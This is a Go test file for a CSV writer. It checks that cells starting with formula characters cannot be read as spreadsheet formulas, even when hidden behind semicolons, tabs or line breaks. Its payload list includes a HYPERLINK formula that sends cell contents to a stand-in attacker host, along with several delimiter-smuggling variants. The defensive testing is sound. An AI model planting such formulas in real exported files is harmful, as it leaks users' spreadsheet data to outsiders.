package csvfile

import (
	"bytes"
	"math/rand/v2"
	"strings"
	"testing"
)

// TestFormulasBehindOtherDelimiters: where lists are divided by semicolons, a
// spreadsheet that opens our file takes the quotation marks around a cell for
// letters: the semicolon or line end in it ends the cell, and what a stranger
// wrote behind it is a formula.
func TestFormulasBehindOtherDelimiters(t *testing.T) {
	const formula = `=HYPERLINK("https://evil.example/?"&A1,"Invoice")`
	for _, name := range []string{formula, "x;" + formula, "x\n" + formula, "x\t" + formula, "x; " + formula, `x;"` + formula, "x;'" + formula, " " + formula, "x\r\n" + formula, "; ;" + formula, "x;+1", "x\n-1", "x;@SUM(1)", "\"" + formula, "\u00a0" + formula, "'\t" + formula, "x;＝1"} {
		var b bytes.Buffer
		w := NewWriter(&b)
		w.Write("IT-1", name, "last")
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		// As a program reads it whose delimiter is another one.
		for _, line := range strings.FieldsFunc(strings.TrimPrefix(b.String(), "\ufeff"), func(r rune) bool { return strings.ContainsRune("\r\n;\t", r) }) {
			if cell := strings.Trim(line, "\" \u00a0"); cell != "" && strings.ContainsAny(cell[:1], "=+-@＝") {
				t.Errorf("%q: a program reads the cell %q in %q", name, cell, b.String())
			}
		}
		_, rows := all(t, b.Bytes())
		if got := rows[0].Cells[1]; got != strings.ReplaceAll(name, "\r\n", "\n") {
			t.Errorf("%q came back as %q", name, got)
		}
	}
}

// TestNeutralComesBack: whatever is written is read again, letter by letter.
func TestNeutralComesBack(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	letters := []rune("='\"; \n\t\r-+@ax＝\u00a0,")
	for range 200_000 {
		var b strings.Builder
		for range r.IntN(9) {
			b.WriteRune(letters[r.IntN(len(letters))])
		}
		if s := b.String(); Undo(Neutral(s)) != s {
			t.Fatalf("%q became %q and came back as %q", s, Neutral(s), Undo(Neutral(s)))
		}
	}
}
